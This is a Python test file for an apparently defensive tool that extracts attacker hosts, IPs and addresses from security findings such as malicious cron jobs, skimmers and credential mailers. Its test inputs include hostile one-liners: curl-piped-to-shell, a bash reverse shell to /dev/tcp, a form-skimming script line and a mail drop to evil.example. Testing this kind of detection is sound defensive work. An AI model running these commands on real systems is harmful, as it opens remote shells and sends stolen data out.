from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from logged import finding, machine
from pratique.checks import all_checks
from pratique.content.mark import Mark
from pratique.model import Severity
from pratique.story.indicator.indicator import Because
from pratique.story.indicator.named import LEADING, SENDING, named
from pratique.story.indicator.own import Own

NOBODY = Own(frozenset({"shop.example"}), frozenset({"203.0.113.5"}), frozenset(), frozenset())
CRON = "persistence-cron-fetches-code"
MAILER = "web-credential-mailer"


def found(quote, check=CRON, *rows, **changed):
    one = replace(finding("/etc/x", check, Severity.HIGH), quote=quote, **changed)
    return named(machine(*rows), [one], NOBODY)


def test_every_check_that_is_named_is_there():
    assert {check.slug for check in all_checks()} >= LEADING | SENDING


@pytest.mark.parametrize(
    ("check", "quote", "values"),
    [
        (CRON, "curl -s http://evil.example/k | sh", {"evil.example", "http://evil.example/k"}),
        (CRON, "wget 198.51.100.66/k", {"198.51.100.66"}),
        (CRON, "bash -i >& /dev/tcp/198.51.100.66/443 0>&1", {"198.51.100.66"}),
        (CRON, "curl http://[2001:db8::66]/k", {"2001:db8::66", "http://[2001:db8::66]/k"}),
        (
            CRON,
            "curl https://raw.githubusercontent.com/e/e/k",
            {"https://raw.githubusercontent.com/e/e/k"},
        ),
        (CRON, "curl https://evil.example/$(hostname)", {"evil.example"}),
        ("web-htaccess-redirect", "RewriteRule ^(.*)$ http://evil.example/$1", {"evil.example"}),
        ("web-script-skims", "src = 'https://evil.example/i?d=' + c", {"evil.example"}),
        ("files-coin-miner", '"url": "pool.example:3333"', {"pool.example"}),
        (MAILER, "mail('drop@evil.example', $t)", {"drop@evil.example"}),
        (
            MAILER,
            "https://api.telegram.org/bot123456789:" + "A" * 35 + "/sendMessage",
            {"123456789"},
        ),
    ],
)
def test_takes(check, quote, values):
    assert {one.value for one in found(quote, check).taken} == values


@pytest.mark.parametrize(
    ("check", "quote", "because"),
    [
        (CRON, "curl http://shop.example/cron.php", [Because.OWN]),
        (CRON, "curl http://203.0.113.5/x", [Because.OWN]),
        (CRON, "curl http://10.0.0.5/x", [Because.PRIVATE]),
        (CRON, "curl https://google.com/", [Because.SERVICE]),
        (MAILER, "mail('info@shop.example', $t)", [Because.OWN]),
        ("web-phishing-page", "saved from https://login.bank.example/", []),
        ("crowd-same-content", "http://evil.example/", []),
        (CRON, "x" * 290 + " http://evil.exampl", [Because.CUT]),
        (CRON, "curl http://evil.ex\N{HORIZONTAL ELLIPSIS}", [Because.CUT]),
    ],
)
def test_leaves_alone(check, quote, because):
    said = found(quote, check)
    assert said.taken == []
    assert said.left == because


def test_no_secret_of_a_bot_is_told():
    secret = "A" * 35
    said = found(f"https://api.telegram.org/bot123456789:{secret}/x", MAILER)
    assert secret not in repr(said)


@pytest.mark.parametrize("changed", [{"severity": Severity.LOW}, {"confidence": 0.4}])
def test_what_is_not_sure_gives_nothing(changed):
    assert found("curl http://evil.example/k", **changed).taken == []


def test_what_a_hidden_text_comes_to_is_read():
    mark = Mark("/etc/x", None, "js-hidden-address", "atob('aHR0')",
                "It comes to: https://evil.example/plug-in", 0.9)  # fmt: skip
    values = {one.value for one in found("atob('aHR0')", "web-script-misleads", mark).taken}
    assert values == {"evil.example", "https://evil.example/plug-in"}


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=400), st.sampled_from([CRON, MAILER, "files-coin-miner"]))
def test_any_text_is_read(text, check):
    for one in found(text, check).taken:
        assert one.value
